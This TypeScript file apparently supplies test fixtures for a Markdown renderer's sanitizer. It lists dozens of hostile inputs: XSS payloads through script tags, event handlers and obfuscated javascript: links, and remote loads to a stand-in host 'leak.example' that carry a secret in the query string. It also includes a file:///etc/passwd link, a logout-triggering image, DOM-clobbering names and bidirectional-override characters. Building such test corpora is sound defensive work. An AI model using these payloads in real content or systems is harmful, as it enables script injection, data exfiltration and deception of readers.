/**
 * Hostile answers. Each would run `pwned()` or ask `leak.example` for something, in a renderer that obeys it; a few
 * would take a name from the page or show code in another order than it runs.
 */
export interface Payload {
  name: string;
  source: string;
}

const LEAK = "https://leak.example/x?d=secret";
const entities = (text: string) => [...text].map((letter) => `&#${letter.codePointAt(0)};`).join("");
const hexEntities = (text: string) =>
  [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join("");

const RAW_HTML: Record<string, string> = {
  "a script element": "<script>pwned()</script>",
  "a script element inside a paragraph": "Look: <script>pwned()</script> here",
  "a script element from elsewhere": `<script src="${LEAK}"></script>`,
  "a module script": `<script type="module">import "${LEAK}"</script>`,
  "an image with an error handler": '<img src="x:y" onerror="pwned()">',
  "an image with no quotes": "<img/src=x:y/onerror=pwned()>",
  "a remote image in HTML": `<img src="${LEAK}">`,
  "a source set": `<img srcset="${LEAK} 2x">`,
  "an SVG with a load handler": "<svg onload=pwned()></svg>",
  "an SVG with a script": "<svg><script>pwned()</script></svg>",
  "an SVG animation to a script":
    '<svg><a><animate attributeName="href" values="javascript:pwned()"/><text>x</text></a></svg>',
  "an SVG use of elsewhere": `<svg><use href="${LEAK}#a"></use></svg>`,
  "MathML with a link": '<math><mtext><a href="javascript:pwned()">x</a></mtext></math>',
  "details with a toggle handler": "<details open ontoggle=pwned()><summary>x</summary></details>",
  "a focused input": "<input autofocus onfocus=pwned()>",
  "a frame with a document": `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
  "a frame with a script scheme": '<iframe src="javascript:parent.pwned()"></iframe>',
  "an object": `<object data="${LEAK}"></object>`,
  "an embed": `<embed src="${LEAK}">`,
  "a base element": '<base href="https://leak.example/">\n\n[relative](x)',
  "a refresh": `<meta http-equiv="refresh" content="0;url=${LEAK}">`,
  "a stylesheet": `<link rel="stylesheet" href="${LEAK}">`,
  "a preconnect": '<link rel="preconnect" href="https://leak.example">',
  "an imported style": `<style>@import url("${LEAK}");</style>`,
  "a style that hides the page": "<style>body{display:none}</style>",
  "a background in a style attribute": `<p style="background:url(${LEAK})">x</p>`,
  "a form with a script action": '<form action="javascript:pwned()"><button>x</button></form>',
  "a video with a poster": `<video poster="${LEAK}"><source onerror=pwned() src="x:y"></video>`,
  "a template and a noscript that mutate": '<noscript><p title="</noscript><img src=x:y onerror=pwned()>">',
  "a comment that closes early": '<!--><img src="x:y" onerror="pwned()">-->',
  CDATA: '<![CDATA[<img src="x:y" onerror="pwned()">]]>',
  "a tag across chunks and lines": '<img\nsrc="x:y"\nonerror="pwned()"\n>',
  "HTML inside a table cell": '| a |\n|---|\n| <img src="x:y" onerror="pwned()"> |',
  "HTML inside a list in a quote": "> - <svg onload=pwned()>",
  "HTML written as entities": '&lt;img src="x:y" onerror="pwned()"&gt;',
  "HTML in a fence's info string": '```"><img src=x:y onerror=pwned()>\ncode\n```',
  "HTML inside code": "`<img src=x:y onerror=pwned()>`",
  "HTML inside math": "$<img src=x:y onerror=pwned()>$ and $$\\href{javascript:pwned()}{x}$$",
};

const SCHEMES: Record<string, string> = {
  "javascript:": "[x](javascript:pwned())",
  "javascript: in capitals": "[x](JaVaScRiPt:pwned())",
  "javascript: in angle brackets": "[x](<javascript:pwned()>)",
  "javascript: as an autolink": "<javascript:pwned()>",
  "javascript: by reference": "[x]\n\n[x]: javascript:pwned()",
  "javascript: by a late definition": "[x][y] and more text\n\nA paragraph.\n\n[y]: javascript:pwned()",
  "javascript: as entities": `[x](${entities("javascript:")}pwned())`,
  "javascript: as hexadecimal entities": `[x](${hexEntities("javascript:")}pwned())`,
  "javascript: with an entity for the colon": "[x](javascript&colon;pwned())",
  "javascript: with a tab entity": "[x](java&Tab;script:pwned())",
  "javascript: with a newline entity": "[x](java&NewLine;script:pwned())",
  "javascript: behind a control character": "[x](\u0001javascript:pwned())",
  "javascript: behind a control entity": "[x](&#1;javascript:pwned())",
  "javascript: behind a no-break space": "[x](&nbsp;javascript:pwned())",
  "javascript: with a zero character": "[x](java\u0000script:pwned())",
  "javascript: with escapes": "[x](javascript\\:pwned\\(\\))",
  "javascript: percent-encoded": "[x](javascript%3Apwned())",
  "javascript: with a line separator": "[x](java\u2028script:pwned())",
  "javascript: behind a soft hyphen": "[x](\u00adjavascript:pwned())",
  "vbscript:": "[x](vbscript:pwned())",
  "data: with HTML": "[x](data:text/html,<script>parent.pwned()</script>)",
  "data: in base 64": "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==)",
  "blob:": "[x](blob:https://leak.example/1)",
  "file:": "[x](file:///etc/passwd)",
  "a scheme-relative link": "[x](//leak.example/x)",
  "view-source:": "[x](view-source:javascript:pwned())",
  "a title that breaks out": '[x](https://example.org "\\" onclick=\\"pwned()")',
  "a title with an entity that breaks out": "[x](https://example.org '&quot; onmouseover=&quot;pwned()')",
  "a destination that breaks out": '[x](https://example.org/"onclick="pwned())',
  "a link inside a footnote": "a[^1]\n\n[^1]: [x](javascript:pwned())",
};

const IMAGES: Record<string, string> = {
  "a remote image": `![x](${LEAK})`,
  "a remote image by reference": `![x][y]\n\n[y]: ${LEAK}`,
  "a remote image inside a link": `[![x](${LEAK})](https://example.org)`,
  "a remote image in a table": `| a |\n|---|\n| ![x](${LEAK}) |`,
  "a remote image in a heading": `# ![x](${LEAK})`,
  "a remote image half written": `![x](${LEAK}`,
  "a scheme-relative image": "![x](//leak.example/x.png)",
  "a relative image": "![x](leak.example.png)",
  // A GET that Jupyter's server obeys, with the reader's cookies.
  "an image that logs the reader out": "![x](/logout?leak)",
  "an image with a script scheme": "![x](javascript:pwned())",
  "an SVG image as data": "![x](data:image/svg+xml,<svg onload='pwned()'/>)",
  "an image in a footnote": `a[^1]\n\n[^1]: ![x](${LEAK})`,
  "an image whose description breaks out": `![" onerror="pwned()](${LEAK})`,
  "an autolink": `<${LEAK}> and ${LEAK} and www.leak.example`,
  "an autolink of a mail address": '<"onmouseover=pwned()"@leak.example> and a@leak.example',
};

const NAMES: Record<string, string> = {
  "a heading with a page's name": "# clobbered",
  "headings with a document's names": "# cookie\n\n# getElementById\n\n# location\n\n# __proto__",
  "a heading with an explicit id": "# Title {#clobbered}",
  "a footnote with a page's name": "a[^clobbered]\n\n[^clobbered]: note",
  "footnotes with a prototype's names":
    "a[^__proto__] b[^constructor] c[^toString]\n\n[^__proto__]: p\n[^constructor]: c\n[^toString]: t",
  "definitions with a prototype's names":
    "[__proto__] [constructor] [hasOwnProperty]\n\n[constructor]: https://example.org",
  "elements with names":
    "<a id=clobbered name=clobbered></a><form id=clobbered><input name=attributes></form>",
  "a fence with a page's name": "```clobbered\nx\n```",
};

export const PAYLOADS: readonly Payload[] = [RAW_HTML, SCHEMES, IMAGES, NAMES].flatMap((group) =>
  Object.entries(group).map(([name, source]) => ({ name, source })),
);

/** Bidirectional overrides: shown, they change no order; obeyed, the code reads otherwise than it runs. */
export const REORDERING: readonly Payload[] = [
  { name: "an override in inline code", source: "`abc\u202edef\u202cghi`" },
  { name: "an override in a fence", source: "```\nabc\u202edef\u202cghi\n```" },
  { name: "an isolate in a fence", source: "```js\nz = \u2067abc\u2066def\u2069ghi\u2069\n```" },
  { name: "an embedding in a fence", source: "```\nabc\u202bdef\u202cghi\n```" },
  { name: "an override in indented code", source: "    abc\u202edef\u202cghi" },
  { name: "an override in a paragraph", source: "abc\u202edef\u202cghi" },
  { name: "an override in a link's text", source: "[abc\u202edef\u202cghi](https://example.org)" },
  { name: "an override as an entity", source: "abc&#x202e;def&#x202c;ghi" },
];
